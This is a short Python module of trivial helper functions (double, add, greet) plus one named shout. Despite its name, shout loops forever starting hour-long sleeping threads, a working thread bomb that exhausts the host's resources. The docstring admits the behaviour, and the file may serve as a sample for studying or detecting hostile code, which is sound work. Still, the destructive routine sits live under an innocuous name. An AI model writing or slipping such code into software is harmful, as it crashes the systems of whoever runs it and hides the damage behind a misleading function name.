"""Starts threads for ever; none of them ends."""

import threading
import time


def double(value):
    return value * 2


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def shout(text):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
